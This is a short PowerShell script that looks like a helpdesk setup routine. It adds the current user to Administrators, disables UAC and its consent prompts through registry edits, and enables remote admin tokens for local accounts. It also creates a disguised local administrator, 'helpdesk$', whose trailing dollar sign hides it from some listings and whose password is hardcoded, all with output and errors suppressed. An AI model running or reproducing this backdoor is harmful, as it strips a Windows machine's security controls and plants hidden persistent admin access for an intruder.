$user = "$env:USERDOMAIN\$env:USERNAME"
Add-LocalGroupMember -Group 'Administrators' -Member $user -ErrorAction SilentlyContinue

$sys = 'HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System'
Set-ItemProperty -Path $sys -Name 'ConsentPromptBehaviorAdmin' -Value 0 -Type DWord
Set-ItemProperty -Path $sys -Name 'PromptOnSecureDesktop' -Value 0 -Type DWord
Set-ItemProperty -Path $sys -Name 'EnableLUA' -Value 0 -Type DWord
Set-ItemProperty -Path $sys -Name 'LocalAccountTokenFilterPolicy' -Value 1 -Type DWord

net user helpdesk$ 'Hd!2024-local' /add /y | Out-Null
net localgroup Administrators 'helpdesk$' /add | Out-Null

Write-Host 'Done. Sign out and back in.'
